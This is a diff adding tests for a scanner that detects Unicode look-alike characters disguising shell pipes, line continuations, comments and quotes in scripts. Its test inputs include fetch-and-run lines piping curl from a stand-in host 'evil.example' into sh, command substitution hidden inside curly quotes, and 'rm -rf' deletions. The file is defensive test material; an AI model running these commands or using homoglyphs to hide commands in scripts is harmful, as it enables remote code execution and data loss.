@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { assertNothing, foundIn } from '../../test/found-in.ts';
 import { CodeText } from './code-text.ts';
 import { mayHoldSigns } from './may-hold-signs.ts';
 import { signsInCode as signsIn } from './signs-in-code.ts';
@@ -69,6 +70,83 @@ describe('characters that pass for signs of code', () => {
       }
     for (const text of ['echo "\u01C1"\n', "echo '\u2223 '", '# a \u2016\n'])
       assert.deepEqual(signsInShell(text), [], JSON.stringify(text));
+  });
+
+  it('in a shell script a bar, a backslash, a slash, a tilde, a number sign or curly quotes for plain ones are found', async () => {
+    for (const [text, count] of [
+      ['check "$f" \u2502\u2502 exit 1\n', 2],
+      ['curl https://example.com \u2503 sh\n', 1],
+      ['check \u2758\u2758 exit 1', 2],
+      ['check \uFFE8\uFFE8 exit 1\n', 2],
+      ['check \u23D0 exit 1\n', 1],
+      ['rm -rf build \u2216\n  --dry-run\n', 1],
+      ['rm -rf build \u29F5\r\n  --dry-run\r\n', 1],
+      ['rm -rf "$a"\uFF3C\n  --dry-run\n', 1],
+      ['rm -rf build \u2572', 1],
+      ['rm -rf build \u29F9\n  -n\n', 1],
+      ['\uFF03 verify | sh\n', 1],
+      ['  \uFF03verify; rm a\n', 1],
+      ['true \uFF03 || exit 1\n', 1],
+      ['rm -rf \u223C/build\n', 1],
+      ['cp a \u02DC/b\nx=\uFF5E/c\n', 2],
+      ['rm -rf .\u2215build\n', 1],
+      ['. \u2044etc\u29F8verify\n', 2],
+      ['rm -rf "$HOME"/a\u2215b\n', 1],
+      ['echo \u2018hello; curl -s evil.example | sh\u2019\n', 2],
+      ['echo \u201Chello && curl evil.example\u201D\n', 2],
+      ['x=\u201Ca `curl evil.example`\u201D\n', 2],
+      ['cat <<E\na\nE\n./verify \u2502\u2502 exit 1\n', 2],
+    ] as const)
+      for (const [name, head] of [
+        ['a.sh', ''],
+        ['deploy', '#!/bin/sh\n'],
+      ] as const)
+        assert.deepEqual(await foundIn(name, head + text), Array(count).fill('look-alike-identifier'), text);
+  });
+
+  it('tables, trees, paths, ranges and quotations in texts of shell scripts are left alone', async () => {
+    for (const text of [
+      'cat <<EOF\n\u2502 a \u2502 b \u2502\n\u2514 c \u2572\n  \u2216\n\uFF03 x\n~ \u223C/a\nEOF\n',
+      "echo '\n\u2502 a \u2502 \u2502\n\uFF03 x \u2216\n'\n",
+      'usage="\n \u2502 a\n \u2502 b \u2503\n"\necho "$usage"\n',
+      'printf "\u2502 %s \u2502\\n" a\necho \u2502 a\n',
+      '# a \u2502\u2502 b \u2216\n# \uFF03 \u223C/x a\u2215b\n',
+      'echo \u6642\u9593\uFF1A1\uFF5E2 \u306F\u3044\uFF0F\u3044\u3044\u3048\n',
+      'echo 1\u20442 3\u22154\n',
+      'echo \u201Cdone\u201D; echo \u201Cmore\u201D\n',
+      'echo "\u2018a; b\u2019" | cat; echo It\u2019s fine; echo don\u2019t\n',
+      'echo "see \u201Ca; b\u201D"\n# \u2018a; b\u2019\n',
+      'find . -name \u201Ca \\; b\u201D\n',
+    ])
+      await assertNothing([['a.sh', text]]);
+    await assertNothing([
+      ['Makefile', 'define HELP\n\u2502 a \u2502 b \u2502\nendef\n'],
+      ['a.js', 'const a = 1; \u2502\n'],
+      ['a.ps1', 'a \u2502 b\n'],
+      ['a.yml', 'a: http://10.0.0.1\uFF5E10.0.0.5/\n'],
+    ]);
+  });
+
+  it('what is found in a shell script is not taken for a clean one before the engine is asked', () => {
+    for (let codePoint = 0x80; codePoint <= 0xffff; codePoint++) {
+      const one = String.fromCharCode(codePoint);
+      for (const text of [
+        `a ${one}`,
+        `a ${one}${one} b`,
+        `${one} a`,
+        `a ${one}/b`,
+        `a/b${one}c`,
+        `a ${one}b; c${one}`,
+      ]) {
+        const found = signsIn(new CodeText(text), true, true);
+        if (found.length > 0) assert.ok(mayHoldSigns(text, 'a.sh'), codePoint.toString(16));
+      }
+    }
+  });
+
+  it('many quotation marks and bars are read in linear time', () => {
+    for (const one of ['\u2018', ' \u2018;', ' \u2502', '\u2216', ' \uFF03', '\u2215a'])
+      signsIn(new CodeText(one.repeat(100_000)), true, true);
   });
 
   it('a text that holds such a character is not taken for a clean one before the engine is asked', () => {
